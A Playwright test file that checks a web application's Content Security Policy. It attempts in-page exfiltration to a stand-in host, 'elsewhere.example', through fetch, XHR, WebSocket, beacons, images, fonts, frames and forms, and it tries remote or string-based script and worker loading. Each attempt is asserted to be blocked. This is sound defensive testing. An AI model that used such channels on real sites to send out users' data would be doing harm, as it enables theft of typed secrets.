// What a script in the page could do to send away what was typed, tried from inside the page.
import type { Page } from '@playwright/test'
import { expect, browserTest as test } from './fixtures.ts'
import { OpenCasePage } from './pages/open-case.ts'

const elsewhere = 'https://elsewhere.example/'

type Attempt = (page: Page) => Promise<unknown>

/** Each way out, and the directive of the policy that closes it. */
const waysOut: Readonly<Record<string, readonly [directive: string, attempt: Attempt]>> = {
  'fetch to another origin': [
    'connect-src',
    (page) => page.evaluate((address) => fetch(address).catch(() => null), elsewhere),
  ],
  'a request of the old kind': [
    'connect-src',
    (page) =>
      page.evaluate((address) => {
        const request = new XMLHttpRequest()
        request.open('POST', address)
        request.send('x')
      }, elsewhere),
  ],
  'a WebSocket': [
    'connect-src',
    (page) =>
      page.evaluate(() => {
        try {
          return new WebSocket('wss://elsewhere.example/').url
        } catch {
          return null
        }
      }),
  ],
  'an event source': [
    'connect-src',
    (page) => page.evaluate((address) => new EventSource(address).url, elsewhere),
  ],
  'a beacon': [
    'connect-src',
    (page) => page.evaluate((address) => navigator.sendBeacon(address, 'x'), elsewhere),
  ],
  'an image': [
    'img-src',
    (page) => page.evaluate((address) => (new Image().src = `${address}x.png?secret`), elsewhere),
  ],
  'a style sheet': [
    'style-src-elem',
    (page) =>
      page.evaluate((address) => {
        const link = document.createElement('link')
        link.rel = 'stylesheet'
        link.href = `${address}x.css`
        document.head.append(link)
      }, elsewhere),
  ],
  'a font': [
    'font-src',
    (page) =>
      page.evaluate(
        (address) => new FontFace('x', `url(${address}x.woff2)`).load().catch(() => null),
        elsewhere,
      ),
  ],
  'a frame': [
    'frame-src',
    (page) =>
      page.evaluate((address) => {
        const frame = document.createElement('iframe')
        frame.src = address
        document.body.append(frame)
      }, elsewhere),
  ],
  'a form': [
    'form-action',
    (page) =>
      page.evaluate((address) => {
        const form = document.createElement('form')
        form.action = address
        document.body.append(form)
        form.submit()
      }, elsewhere),
  ],
}

/** What is no address to be asked, but code from a text or from elsewhere. */
const waysIn: Readonly<Record<string, Attempt>> = {
  'a timer with a text': (page) =>
    page.evaluate(() => {
      try {
        Reflect.apply(setTimeout, window, ['window.cameIn = true'])
      } catch {
        // Refused at once.
      }
    }),
  'an interval with a text': (page) =>
    page.evaluate(() => {
      try {
        Reflect.apply(setInterval, window, ['window.cameIn = true', 10])
      } catch {
        // Refused at once.
      }
    }),
  'a worker from elsewhere': (page) =>
    page.evaluate((address) => {
      try {
        Reflect.set(window, 'cameIn', new Worker(`${address}worker.js`))
      } catch {
        // Refused at once.
      }
    }, elsewhere),
  'a worker made of a text': (page) =>
    page.evaluate(() => {
      try {
        const code = new Blob(['postMessage(1)'], { type: 'text/javascript' })
        Reflect.set(window, 'cameIn', new Worker(URL.createObjectURL(code)))
      } catch {
        // Refused at once.
      }
    }),
  'a service worker from elsewhere': (page) =>
    page.evaluate(async (address) => {
      const { serviceWorker } = navigator
      const came = await serviceWorker.register(`${address}sw.js`).catch(() => undefined)
      Reflect.set(window, 'cameIn', came)
    }, elsewhere),
  'a script from elsewhere': (page) =>
    page.evaluate((address) => {
      try {
        const script = document.createElement('script')
        script.src = `${address}x.js`
        document.head.append(script)
      } catch {
        // Refused at once.
      }
    }, elsewhere),
}

/** Directives and addresses of everything that the policy has stopped in this page. */
async function watchPolicy(page: Page): Promise<() => Promise<readonly string[]>> {
  await page.addInitScript(() => {
    const stopped: string[] = []
    Reflect.set(window, 'stoppedByPolicy', stopped)
    addEventListener('securitypolicyviolation', ({ effectiveDirective, blockedURI }) =>
      stopped.push(`${effectiveDirective} ${blockedURI}`),
    )
  })
  return () => page.evaluate(() => Reflect.get(window, 'stoppedByPolicy') as readonly string[])
}

for (const [name, [directive, attempt]] of Object.entries(waysOut)) {
  test(`the policy stops ${name}`, async ({ page, context, troubles }) => {
    const asked: string[] = []
    await context.route(/elsewhere\.example/, (route) => {
      asked.push(route.request().url())
      return route.abort()
    })
    const stopped = await watchPolicy(page)
    await new OpenCasePage(page).visit()
    const { href } = new URL(page.url())
    await attempt(page)
    await expect
      .poll(async () => (await stopped()).map((one) => one.replace(/\.example.*$/, '')))
      .toContain(`${directive} ${name.includes('Socket') ? 'wss' : 'https'}://elsewhere`)
    expect(asked).toEqual([])
    expect(page.url()).toBe(href)
    troubles.expected(/elsewhere\.example/)
    troubles.expected(/console: .*Content Security Policy/)
  })
}

for (const [name, attempt] of Object.entries(waysIn)) {
  test(`nothing runs by ${name}`, async ({ page, context, troubles }) => {
    const asked: string[] = []
    await context.route(/elsewhere\.example/, (route) => {
      asked.push(route.request().url())
      return route.fulfill({ contentType: 'text/javascript', body: 'self.cameIn = true' })
    })
    const stopped = await watchPolicy(page)
    await new OpenCasePage(page).visit()
    await attempt(page)
    // Where a service worker may come from, browsers say themselves.
    if (!name.includes('service')) await expect.poll(stopped).not.toEqual([])
    // Timers run when they are due: one that was not refused has run before this one.
    await page.evaluate(() => new Promise((run) => setTimeout(run, 20)))
    expect(await page.evaluate(() => Reflect.get(window, 'cameIn') as unknown)).toBeUndefined()
    expect(asked).toEqual([])
    troubles.expected(/policy: (require-trusted-types-for|script-src|worker-src)/)
    troubles.expected(/console: .*(Content Security Policy|Trusted ?(Type|Script))/)
  })
}

const foreignPage = (body: string) => ({ contentType: 'text/html', body: `<!doctype html>${body}` })

test('a page from elsewhere that opens this one, or is opened by it, cannot reach it', async ({
  page,
  context,
  troubles,
}) => {
  await context.route(/elsewhere\.example/, (route) => route.fulfill(foreignPage('<p>Elsewhere')))
  await new OpenCasePage(page).visit()
  const ours = page.url()
  const opened = context.waitForEvent('page')
  await page.evaluate((address) => void window.open(address), elsewhere)
  const foreign = await opened
  await foreign.waitForLoadState()
  expect(await foreign.evaluate(() => window.opener === null)).toBe(true)

  const here = context.waitForEvent('page')
  await foreign.evaluate((address) => Reflect.set(window, 'target', window.open(address)), ours)
  const openedByForeign = await here
  await new OpenCasePage(openedByForeign).ready()
  expect(await openedByForeign.evaluate(() => window.opener === null)).toBe(true)
  expect(
    await foreign.evaluate(() => (Reflect.get(window, 'target') as Window | null)?.closed ?? true),
  ).toBe(true)
  troubles.expected(/elsewhere\.example/)
})

for (const sandbox of ['', 'allow-scripts', 'allow-scripts allow-same-origin']) {
  test(`the page stays out of a foreign frame with sandbox="${sandbox}"`, async ({
    page,
    context,
    baseURL,
    troubles,
  }) => {
    const frame = `<iframe sandbox="${sandbox}" src="${baseURL ?? ''}"></iframe>`
    await context.route(/elsewhere\.example/, (route) => route.fulfill(foreignPage(frame)))
    await page.goto(elsewhere)
    const inner = page.frameLocator('iframe')
    await expect
      .poll(() => page.frames().map((one) => one.url()))
      .toEqual([elsewhere, 'chrome-error://chromewebdata/'])
    await expect(inner.getByRole('region', { name: 'File' })).toHaveCount(0)
    troubles.expected(/elsewhere\.example/)
    troubles.expected(/frame-ancestors/)
  })
}
